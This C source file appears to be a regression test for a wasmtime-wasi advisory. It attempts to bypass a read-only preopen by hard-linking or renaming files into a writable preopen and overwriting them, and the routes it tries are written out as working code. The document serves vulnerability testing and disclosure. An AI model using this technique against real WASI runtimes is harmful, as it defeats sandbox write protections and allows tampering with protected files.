// GHSA-4ch3-9j33-3pmj (wasmtime-wasi, 2026): a file reachable only through a
// read-only preopen was hard-linked (or renamed) into a writable preopen and
// then overwritten through the new name. Here fd 3 is the read-only preopen
// /ro (secret.txt, sub/inner.txt), fd 4 the writable /rw. Each route is tried
// to the end: link or rename, then open the new name for writing and write.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "fs_util.h"

#define RO 3
#define RW 4

// Opens `name` beneath /rw for writing and overwrites it: the second half of the attack.
static void overwrite(const char *name) {
    __wasi_fd_t fd;
    __wasi_errno_t e = open_at(RW, name, 0, 0, RW_RIGHTS, 0, &fd);
    printf("  open /rw/%s for writing: %s\n", name, errno_name(e));
    if (e == 0) {
        printf("  write: %s\n", errno_name(write_all(fd, "OVERWRITTEN")));
        __wasi_fd_close(fd);
    }
}

int main(void) {
    CHECK("link /ro/secret.txt -> /rw/alias", __wasi_path_link(RO, 0, "secret.txt", RW, "alias"));
    overwrite("alias");
    CHECK("rename /ro/secret.txt -> /rw/moved", __wasi_path_rename(RO, "secret.txt", RW, "moved"));
    overwrite("moved");
    // Through a directory opened beneath the read-only preopen: it is read-only too.
    __wasi_fd_t sub;
    CHECK("open /ro/sub", open_at(RO, "sub", 0, __WASI_OFLAGS_DIRECTORY, 0, 0, &sub));
    CHECK("link /ro/sub/inner.txt -> /rw/inner", __wasi_path_link(sub, 0, "inner.txt", RW, "inner"));
    overwrite("inner");
    CHECK("rename /ro/sub/inner.txt -> /rw/inner2", __wasi_path_rename(sub, "inner.txt", RW, "inner2"));
    overwrite("inner2");
    CHECK("rename /ro/sub -> /rw/subdir", __wasi_path_rename(RO, "sub", RW, "subdir"));
    // As a C program writes it, through wasi-libc's path lookup.
    printf("libc link: %s\n", link("/ro/secret.txt", "/rw/alias2") ? strerror(errno) : "linked");
    printf("libc rename: %s\n", rename("/ro/secret.txt", "/rw/moved2") ? strerror(errno) : "renamed");
    // Linking within the writable preopen still works.
    CHECK("link /rw/own -> /rw/own2", __wasi_path_link(RW, 0, "own", RW, "own2"));
    return 0;
}
